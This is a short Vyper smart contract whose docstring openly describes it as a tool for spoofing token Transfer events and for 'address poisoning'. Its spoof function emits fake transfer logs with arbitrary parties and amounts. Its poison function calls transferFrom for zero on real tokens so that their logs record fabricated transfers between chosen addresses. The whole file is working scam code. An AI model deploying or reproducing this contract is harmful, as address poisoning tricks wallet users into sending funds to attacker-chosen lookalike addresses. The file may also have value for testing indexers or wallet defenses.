# pragma version 0.4.3
# pragma evm-version shanghai
# pragma optimize gas
"""
@title Writes Transfer logs about others
@license Apache-2.0
@notice Its logs have the signature and the topics of a token's, but its own address; and it calls `transferFrom` of
        nothing on real tokens (address poisoning), which writes real logs of real tokens.
"""

event Transfer:
    sender: indexed(address)
    receiver: indexed(address)
    value: uint256


@external
def spoof(sender: address, to: address, amount: uint256):
    log Transfer(sender=sender, receiver=to, value=amount)


@external
def poison(token: address, sender: address, to: address):
    raw_call(token, abi_encode(sender, to, empty(uint256), method_id=method_id("transferFrom(address,address,uint256)")))
